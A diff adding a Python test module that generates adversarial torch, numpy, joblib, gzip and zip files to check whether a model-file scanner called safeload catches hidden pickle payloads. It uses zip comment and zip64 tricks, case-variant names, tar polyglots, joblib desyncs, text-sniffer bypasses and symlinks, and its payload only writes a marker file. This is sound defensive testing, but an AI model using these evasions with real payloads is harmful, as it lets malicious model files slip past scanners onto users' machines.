@@ -1,0 +1,482 @@
+"""Attacks on the reading of containers (issue 10), generated around real files and a live payload.
+
+Each :class:`Attack` writes its files into a folder and returns the path a native loader opens (``target``) and the
+path ``safeload scan`` is given (``scan_path``: the same file, or the folder for folder scans). ``loaders`` are the
+native loaders of :mod:`oracle` that run the payload (``oracle.live`` proves it); an attack with no loaders is an
+*agreement* case: ``safeload.load`` refuses it, so the scan must not call it clean.
+
+The eight classes:
+
+1. zip end-record ambiguity (a second archive in the comment; a zip64 record not adjacent to its locator)
+2. member names that differ only in case (torch looks names up case-insensitively)
+3. members that ``safeload.load`` never reads (an extra pickle member; an ``.npy`` member ``numpy.load`` opens)
+4. polyglots: a tar header (``ustar`` at byte 257) inside a zip extra field, a gzip FEXTRA, an npy header, a pickle
+5. joblib desyncs: a dtype state whose ``elsize`` differs from its type code; a nested FRAME running past STOP
+6. the text skip: protocol-0 text refused before its first GLOBAL (long line, ``I0x1``, MARK flood)
+7. symlinks out of the scanned folder
+8. mode differences: checks only the torch back end makes, and bundles load refuses
+
+Real framework files are written here by ``torch.save``, ``numpy.save``/``savez``, ``joblib.dump``, ``gzip`` and
+the zip writer below (which copies the members of those real files and adds what the attack needs).
+"""
+
+from __future__ import annotations
+
+import gzip
+import io
+import os
+import pickle
+import pickletools
+import struct
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+
+import oracle
+
+MARKER = oracle.MARKER.encode()
+#: protocol-0 opcodes that run ``open(MARKER, 'w')`` and leave the file object on the stack (no STOP)
+OPS_OPEN = b"cbuiltins\nopen\n(V" + MARKER + b"\nVw\ntR"
+#: the same with STOP: a whole protocol-0 pickle, which is also a text file
+TEXT_PAYLOAD = OPS_OPEN + b"."
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    cls: int  # the class of issue 10, 1-8
+    build: Callable[[Path], tuple[Path, Path]]  # folder -> (target, scan_path)
+    loaders: tuple[str, ...]  # native loaders that run the payload; () for an agreement case
+
+
+# ---- real files ------------------------------------------------------------------------------------------------------
+
+def torch_members(obj: object = None) -> list[tuple[str, bytes]]:
+    """The members of a real ``torch.save`` archive, in order."""
+    import torch
+
+    buf = io.BytesIO()
+    torch.save({"weight": torch.arange(6, dtype=torch.float32)} if obj is None else obj, buf)
+    return zip_members(buf.getvalue())
+
+
+def zip_members(data: bytes) -> list[tuple[str, bytes]]:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return [(info.filename, zf.read(info)) for info in zf.infolist()]
+
+
+def npz_members(**arrays: object) -> list[tuple[str, bytes]]:
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.savez(buf, **arrays)  # type: ignore[arg-type]
+    return zip_members(buf.getvalue())
+
+
+def npy_object(payload: bytes | None = None) -> bytes:
+    """A real ``numpy.save`` of an object array; with ``payload``, its pickle replaced by that pickle."""
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.save(buf, np.array([{"a": 1}], dtype=object), allow_pickle=True)
+    data = buf.getvalue()
+    if payload is None:
+        return data
+    hlen = struct.unpack_from("<H", data, 8)[0]
+    return data[:10 + hlen] + payload
+
+
+def torch_payload_members() -> list[tuple[str, bytes]]:
+    """A real torch archive whose data.pkl is the live payload."""
+    return [(n, oracle.payload(2) if n.endswith("/data.pkl") else d) for n, d in torch_members()]
+
+
+# ---- a zip writer with every field under control ---------------------------------------------------------------------
+
+@dataclass
+class Entry:
+    name: bytes
+    data: bytes
+    local_extra: bytes = b""
+    central_extra: bytes = b""
+    crc: int | None = None  # None: the real CRC-32
+
+
+def entries(members: list[tuple[str, bytes]]) -> list[Entry]:
+    return [Entry(n.encode(), d) for n, d in members]
+
+
+def zip_parts(items: list[Entry], base: int = 0) -> tuple[bytes, bytes]:
+    """(local headers with data, central directory); offsets are absolute, counted from ``base``."""
+    body, cd = bytearray(), bytearray()
+    for e in items:
+        crc = zlib.crc32(e.data) if e.crc is None else e.crc
+        offset = base + len(body)
+        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(e.data), len(e.data),
+                            len(e.name), len(e.local_extra)) + e.name + e.local_extra + e.data
+        cd += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, len(e.data), len(e.data),
+                          len(e.name), len(e.central_extra), 0, 0, 0, 0, offset) + e.name + e.central_extra
+    return bytes(body), bytes(cd)
+
+
+def eocd(count: int, cd_size: int, cd_offset: int, comment: bytes = b"", comment_len: int | None = None) -> bytes:
+    n = len(comment) if comment_len is None else comment_len
+    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, n) + comment
+
+
+def make_zip(items: list[Entry], base: int = 0, comment: bytes = b"") -> bytes:
+    body, cd = zip_parts(items, base)
+    return body + cd + eocd(len(items), len(cd), base + len(body), comment)
+
+
+def zip64_record(count: int, cd_size: int, cd_offset: int) -> bytes:
+    return struct.pack("<4sQ2H2L2Q2Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, cd_size, cd_offset)
+
+
+def zip64_locator(record_offset: int) -> bytes:
+    return struct.pack("<4sLQL", b"PK\x06\x07", 0, record_offset, 1)
+
+
+# ---- tar headers hidden in other formats -------------------------------------------------------------------------------
+
+def tar_block(head: bytes, fill: bytes = b"a", nul: bytes = b"\x00") -> bytes:
+    """A 512-byte ustar header for one empty regular member whose first bytes are ``head`` (someone else's bytes:
+    a zip local header, a gzip header, a pickle). ``nul`` is what terminates fields (a space where NUL is banned)."""
+    assert len(head) <= 100
+    name = head + fill * (100 - len(head))
+    fields = (b"0000644" + nul + b"0000000" + nul + b"0000000" + nul + b"00000000000" + nul
+              + b"00000000000" + nul)
+    linkname = fill * 100 if nul != b"\x00" else b"\x00" * 100
+    tail = (b"ustar" + (b"\x0000" if nul == b"\x00" else b"   ") + (fill if nul != b"\x00" else b"\x00") * 32 * 2
+            + b"0000000" + nul + b"0000000" + nul + (fill if nul != b"\x00" else b"\x00") * 155
+            + (fill if nul != b"\x00" else b"\x00") * 12)
+    block = bytearray(name + fields + b" " * 8 + b"0" + linkname + tail)
+    assert len(block) == 512, len(block)
+    chk = sum(block)
+    block[148:156] = b"%06o" % chk + (b"\x00 " if nul == b"\x00" else b"  ")
+    return bytes(block)
+
+
+def zip_with_tar_extra(items: list[Entry]) -> bytes:
+    """The first local header's extra field holds the rest of a tar header: the file is also a tar."""
+    first = items[0]
+    xlen = 512 - 30 - len(first.name)
+    head = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(first.data), len(first.data),
+                       len(first.data), len(first.name), xlen) + first.name + struct.pack("<2H", 0x6C73, xlen - 4)
+    block = tar_block(head)
+    first.local_extra = block[len(head) - 4:]
+    assert len(first.local_extra) == xlen
+    data = make_zip(items)
+    assert data[:512] == block and data[257:262] == b"ustar"
+    return data
+
+
+def gzip_with_tar_extra(raw: bytes) -> bytes:
+    """A gzip member whose FEXTRA field holds the rest of a tar header."""
+    head = b"\x1f\x8b\x08\x04\x00\x00\x00\x00\x00\xff" + struct.pack("<H", 500)
+    block = tar_block(head)
+    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
+    deflated = comp.compress(raw) + comp.flush()
+    return block + deflated + struct.pack("<2L", zlib.crc32(raw), len(raw) & 0xFFFFFFFF)
+
+
+def npy_with_tar_header(payload: bytes) -> bytes:
+    """An object-array .npy whose header dict is followed by a comment that spells a tar header (no NUL: the
+    header is Python source to numpy)."""
+    real = npy_object()
+    hlen = struct.unpack_from("<H", real, 8)[0]
+    text = real[10:10 + hlen].rstrip().rstrip(b"\n").rstrip()
+    total = 576 - 10  # header length: 10 + total is a multiple of 64
+    head = real[:8] + struct.pack("<H", total) + text + b" #"
+    block = tar_block(head, fill=b" ", nul=b" ")
+    header = block[10:] + b" " * (total - 502 - 1) + b"\n"
+    return real[:8] + struct.pack("<H", total) + header + payload
+
+
+def pickle_with_tar_header() -> bytes:
+    """A pickle whose first opcode is not one a text sniffer expects (SHORT_BINUNICODE), then a tar header."""
+    pkl = (b"\x8c\x08builtins\x8c\x04open\x93\x8c" + bytes([len(MARKER)]) + MARKER + b"\x8c\x01w\x86R.")
+    return tar_block(pkl, fill=b" ")
+
+
+# ---- joblib ------------------------------------------------------------------------------------------------------------
+
+def joblib_bytes(obj: object) -> bytes:
+    import tempfile
+
+    import joblib
+
+    with tempfile.TemporaryDirectory() as d:
+        p = os.path.join(d, "x.joblib")
+        joblib.dump(obj, p)
+        return Path(p).read_bytes()
+
+
+def joblib_elsize(code: str, true_size: int, fake_size: int) -> bytes:
+    """joblib.dump of a 4-element ``code`` array; its dtype state then claims ``elsize=fake_size``, so joblib reads
+    ``4 * fake_size`` array bytes where the type code says ``4 * true_size``. The bytes in between hold a BINBYTES
+    (what a type-code reader sees) that joblib reads as array data, then opcodes only joblib runs."""
+    import numpy as np
+
+    value = b"\xa5" if code == "S1" else "\u00a5"
+    arr = np.array([value] * 4, dtype=code)
+    data = joblib_bytes({"a": arr})
+    state = b"NNNK" + bytes([true_size]) + b"K" + bytes([true_size if code == "S1" else 4]) + b"K"
+    at = data.find(state)
+    assert at >= 0, "dtype state not found"
+    data = data[:at + 4] + bytes([fake_size]) + data[at + 5:]
+    raw = arr.tobytes()
+    start = data.find(raw)
+    assert start >= 0 and data.find(raw, start + 1) < 0
+    end = start + len(raw)
+    joblib_reads = 4 * fake_size
+    skip = joblib_reads - len(raw) - 5  # bytes of the BINBYTES that joblib reads as array data
+    hidden = b"\x00" * skip + OPS_OPEN
+    return data[:end] + b"B" + struct.pack("<L", len(hidden)) + hidden + b"0" + data[end:]
+
+
+def joblib_frame_past_stop() -> bytes:
+    """joblib.dump of an object array; its nested pickle is framed (protocol 4) and the frame runs past STOP. C
+    ``pickle.load`` consumes the whole frame, so joblib resumes after it; a STOP-exact reader resumes inside it."""
+    import numpy as np
+
+    data = joblib_bytes({"o": np.array([1, "x"], dtype=object)})
+    start = min(i for i in (data.find(b"\x80\x05\x95", 2), data.find(b"\x80\x04\x95", 2)) if i > 0)
+    stop = max(pos for _op, _arg, pos in pickletools.genops(io.BytesIO(data[start:]))) + start
+    assert data[stop:stop + 1] == b"."
+    body = data[start + 11:stop + 1]  # the nested pickle's frame, ending with its STOP
+    frame = body + b"C" + bytes([len(OPS_OPEN)])  # a STOP-exact reader sees SHORT_BINBYTES swallow the payload
+    nested = data[start:start + 3] + struct.pack("<Q", len(frame)) + frame
+    return data[:start] + nested + OPS_OPEN + b"0" + data[stop + 1:]
+
+
+# ---- torch pickles for the mode cases ------------------------------------------------------------------------------------
+
+def torch_pickle(body: bytes) -> bytes:
+    return b"\x80\x02" + body + b"."
+
+
+def storage_pid(location: str) -> bytes:
+    return (b"(X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000"
+            + b"X" + struct.pack("<L", len(location)) + location.encode() + b"K\x04tQ")
+
+
+def tensor_from_storage(location: str = "cpu") -> bytes:
+    return (b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage_pid(location)
+            + b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR")
+
+
+def torch_zip_with(pkl: bytes, storage: bytes | None = None) -> bytes:
+    members = [(n, d) for n, d in torch_members() if "/data/" not in n]
+    out = []
+    for n, d in members:
+        out.append((n, pkl if n.endswith("/data.pkl") else d))
+    if storage is not None:
+        out.append(("archive/data/0", storage))
+    return make_zip(entries(out))
+
+
+# ---- the attacks -------------------------------------------------------------------------------------------------------
+
+def _file(name: str, data: bytes | Callable[[], bytes]) -> Callable[[Path], tuple[Path, Path]]:
+    def build(folder: Path) -> tuple[Path, Path]:
+        p = folder / name
+        p.write_bytes(data() if callable(data) else data)
+        return p, p
+
+    return build
+
+
+def _comment_hides(outer: list[tuple[str, bytes]], inner: list[tuple[str, bytes]], trailing: bytes) -> bytes:
+    body, cd = zip_parts(entries(outer))
+    head_len = len(body) + len(cd) + 22
+    hidden = make_zip(entries(inner), base=head_len) + trailing
+    return body + cd + eocd(len(outer), len(cd), len(body), hidden)
+
+
+def _zip64_nonadjacent(benign: list[tuple[str, bytes]], evil: list[tuple[str, bytes]]) -> bytes:
+    """The locator points at a zip64 record for the benign directory; the 56 bytes before the locator are a zip64
+    record for another directory (CPython reads that one)."""
+    body, cd = zip_parts(entries(benign))
+    rec_a_at = len(body) + len(cd)
+    rec_a = zip64_record(len(benign), len(cd), len(body))
+    base = rec_a_at + len(rec_a)
+    body2, cd2 = zip_parts(entries(evil), base=base)
+    rec_b = zip64_record(len(evil), len(cd2), base + len(body2))
+    out = body + cd + rec_a + body2 + cd2 + rec_b + zip64_locator(rec_a_at)
+    return out + eocd(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
+
+
+def _case_names(order: str) -> bytes:
+    real = torch_members()
+    evil = ({"last": "archive/DATA.PKL", "mixed": "archive/Data.pkl", "second": "archive/DATA.pkl"}[order],
+            oracle.payload(2))
+    at = 1 if order == "second" else len(real)  # miniz finds the name by a case-insensitive binary search
+    members = real[:at] + [evil] + real[at:]
+    return make_zip(entries(members))
+
+
+def _text_folder(folder: Path) -> tuple[Path, Path]:
+    import torch
+
+    d = folder / "repo"
+    d.mkdir()
+    torch.save({"w": torch.ones(3)}, d / "model.pt")
+    evil = d / "extra.pkl"
+    evil.write_bytes(b"I0x1\n0" + TEXT_PAYLOAD)
+    return evil, d
+
+
+def _symlink_file(folder: Path) -> tuple[Path, Path]:
+    import torch
+
+    outside = folder / "outside"
+    outside.mkdir()
+    (outside / "evil.pkl").write_bytes(oracle.payload(2))
+    repo = folder / "repo"
+    repo.mkdir()
+    torch.save({"w": torch.ones(3)}, repo / "model.pt")
+    link = repo / "extra.pkl"
+    link.symlink_to(Path("..") / "outside" / "evil.pkl")
+    return link, repo
+
+
+def _symlink_absolute(folder: Path) -> tuple[Path, Path]:
+    outside = folder / "elsewhere"
+    outside.mkdir()
+    (outside / "model.pt").write_bytes(make_zip(entries(torch_payload_members())))
+    repo = folder / "repo"
+    repo.mkdir()
+    (repo / "config.json").write_text('{"a": 1}')
+    link = repo / "pytorch_model.bin"
+    link.symlink_to((outside / "model.pt").resolve())
+    return link, repo
+
+
+def _symlink_dir(folder: Path) -> tuple[Path, Path]:
+    import numpy as np
+
+    outside = folder / "shared"
+    outside.mkdir()
+    (outside / "arr.npy").write_bytes(npy_object(oracle.payload(2)))
+    repo = folder / "repo"
+    repo.mkdir()
+    np.save(repo / "ok.npy", np.arange(3))
+    (repo / "sub").symlink_to(Path("..") / "shared", target_is_directory=True)
+    return repo / "sub" / "arr.npy", repo
+
+
+def _hf_blob_store(folder: Path) -> tuple[Path, Path]:
+    """A Hugging Face cache with the shared blob store: the repository's snapshot links to <cache>/blobs/<prefix>/
+    <hash>, outside the repository folder that is scanned."""
+    import torch
+
+    cache = folder / "hub"
+    blob = cache / "blobs" / "ab" / "ab12cd34ef"
+    blob.parent.mkdir(parents=True)
+    blob.write_bytes(make_zip(entries(torch_payload_members())))
+    repo = cache / "models--org--name"
+    snap = repo / "snapshots" / "0123abcd"
+    snap.mkdir(parents=True)
+    (repo / "refs").mkdir()
+    (repo / "refs" / "main").write_text("0123abcd")
+    torch.save({"w": torch.ones(2)}, snap / "other.pt")
+    link = snap / "pytorch_model.bin"
+    link.symlink_to(Path("..") / ".." / ".." / "blobs" / "ab" / "ab12cd34ef")
+    return link, repo
+
+
+def _bad_crc_bundle() -> bytes:
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.save(buf, np.arange(4))
+    items = [Entry(b"ok.npy", buf.getvalue()), Entry(b"extra.pkl", oracle.payload(2), crc=0x12345678)]
+    return make_zip(items)
+
+
+def _gzip_members() -> bytes:
+    return gzip.compress(pickle.dumps({"a": 1}, protocol=2)) + gzip.compress(oracle.payload(2))
+
+
+def build() -> list[Attack]:
+    import numpy as np
+
+    long_line = b"S'" + b"a" * ((1 << 16) + 8) + b"'\n0" + TEXT_PAYLOAD
+    marks = b"(" * 1001 + TEXT_PAYLOAD
+    hexint = b"I0x1\n0" + TEXT_PAYLOAD
+    a: list[Attack] = [
+        # 1. zip end records
+        Attack("comment-hides-torch-zip", 1,
+               _file("model.pt", lambda: _comment_hides(torch_members(), torch_payload_members(), b"\x00")),
+               ("torch", "zipfile")),
+        Attack("comment-hides-npz", 1,
+               _file("arrays.npz", lambda: _comment_hides(npz_members(a=np.arange(4)),
+                                                          [("x.npy", npy_object(oracle.payload(2)))], b"\x00")),
+               ("numpy",)),
+        Attack("comment-hides-zip-5-trailing", 1,
+               _file("model.pt", lambda: _comment_hides(torch_members(), torch_payload_members(), b"\x00" * 5)),
+               ("zipfile",)),
+        Attack("zip64-record-not-adjacent", 1,
+               _file("arrays.npz", lambda: _zip64_nonadjacent(npz_members(a=np.arange(4)),
+                                                              [("x.npy", npy_object(oracle.payload(2)))])),
+               ("numpy", "zipfile")),
+        # 2. names that differ only in case
+        Attack("case-variant-data-pkl-last", 2, _file("model.pt", lambda: _case_names("last")), ("torch",)),
+        Attack("case-variant-data-pkl-second", 2, _file("model.pt", lambda: _case_names("second")), ("torch",)),
+        Attack("case-variant-data-pkl-mixed", 2, _file("model.pt", lambda: _case_names("mixed")), ("torch",)),
+        # 3. members load never reads
+        Attack("torch-extra-config-txt", 3,
+               _file("model.pt", lambda: make_zip(entries(torch_members() + [("archive/config.txt",
+                                                                              oracle.payload(2))]))),
+               ("zipfile",)),
+        Attack("torch-extra-npy-member", 3,
+               _file("model.pt", lambda: make_zip(entries(torch_members() + [("x.npy",
+                                                                              npy_object(oracle.payload(2)))]))),
+               ("numpy",)),
+        Attack("npz-extra-pickle-member", 3,
+               _file("arrays.npz", lambda: make_zip(entries(npz_members(a=np.arange(3))
+                                                            + [("notes.pkl", oracle.payload(4))]))),
+               ("zipfile", "unzip")),
+        # 4. polyglots
+        Attack("tar-header-in-zip-extra", 4,
+               _file("model.pt", lambda: zip_with_tar_extra(entries(torch_payload_members()))), ("torch",)),
+        Attack("tar-header-in-gzip-fextra", 4,
+               _file("model.pkl.gz", lambda: gzip_with_tar_extra(oracle.payload(2))), ("decompress",)),
+        Attack("tar-header-in-npy-header", 4,
+               _file("x.npy", lambda: npy_with_tar_header(oracle.payload(2))), ("numpy",)),
+        Attack("tar-header-in-pickle", 4, _file("model.pkl", pickle_with_tar_header), ("pickle",)),
+        # 5. joblib desyncs
+        Attack("joblib-dtype-elsize-S", 5, _file("model.joblib", lambda: joblib_elsize("S1", 1, 64)), ("joblib",)),
+        Attack("joblib-dtype-elsize-U", 5, _file("model.joblib", lambda: joblib_elsize("U1", 4, 64)), ("joblib",)),
+        Attack("joblib-nested-frame-past-stop", 5, _file("model.joblib", joblib_frame_past_stop), ("joblib",)),
+        # 6. the text skip
+        Attack("text-long-line", 6, _file("model.pkl", long_line), ("pickle",)),
+        Attack("text-hex-int", 6, _file("model.pkl", hexint), ("pickle",)),
+        Attack("text-mark-flood", 6, _file("model.pkl", marks), ("pickle",)),
+        Attack("text-hex-int-gzip", 6, _file("model.pkl.gz", lambda: gzip.compress(hexint)), ("decompress",)),
+        Attack("text-long-line-gzip", 6, _file("model.pkl.gz", lambda: gzip.compress(long_line)), ("decompress",)),
+        Attack("text-hex-int-folder", 6, _text_folder, ("pickle",)),
+        # 7. symlinks
+        Attack("symlink-file-out-of-folder", 7, _symlink_file, ("pickle",)),
+        Attack("symlink-absolute-torch", 7, _symlink_absolute, ("torch",)),
+        Attack("symlink-dir-out-of-folder", 7, _symlink_dir, ("numpy",)),
+        Attack("symlink-hf-blob-store", 7, _hf_blob_store, ("torch",)),
+        # 8. mode differences and bundles
+        Attack("rebuild-parameter-on-dict", 8,
+               _file("model.pt", lambda: torch_zip_with(torch_pickle(
+                   b"ctorch._utils\n_rebuild_parameter\n(}\x89ccollections\nOrderedDict\n)RtR"))), ()),
+        Attack("storage-location-not-a-device", 8,
+               _file("model.pt", lambda: torch_zip_with(torch_pickle(tensor_from_storage("evil:0")),
+                                                        struct.pack("<4f", 1, 2, 3, 4))), ()),
+        Attack("zip-bundle-bad-crc-member", 8, _file("bundle.zip", _bad_crc_bundle), ("unzip",)),
+        Attack("gzip-second-member", 8, _file("model.pkl.gz", _gzip_members), ("decompress",)),
+    ]
+    return a
+
+
+ATTACKS = build()
+BY_NAME = {a.name: a for a in ATTACKS}
